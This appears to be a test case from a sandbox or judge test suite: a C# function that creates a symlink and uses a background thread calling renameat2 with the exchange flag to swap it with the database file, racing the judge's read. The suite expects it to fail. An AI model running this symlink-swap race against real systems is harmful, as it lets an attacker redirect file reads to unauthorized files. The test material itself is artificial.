// 54e Exchanges the database and a link to another file as fast as it can while the judge reads.
// expected: failed|runtime_error
// arena: db
using System.IO;
using System.Runtime.InteropServices;
[DllImport("libc")] static extern int renameat2(int a, string from, int b, string to, uint flags);
void Rename(SqliteConnection db, int id, string name)
{
    File.CreateSymbolicLink("/data/link", "@home@");
    new Thread(() => { while (true) renameat2(-100, "/data/link", -100, "/data/lab.db", 2); }) { IsBackground = true }.Start();
    Thread.Sleep(50);
}
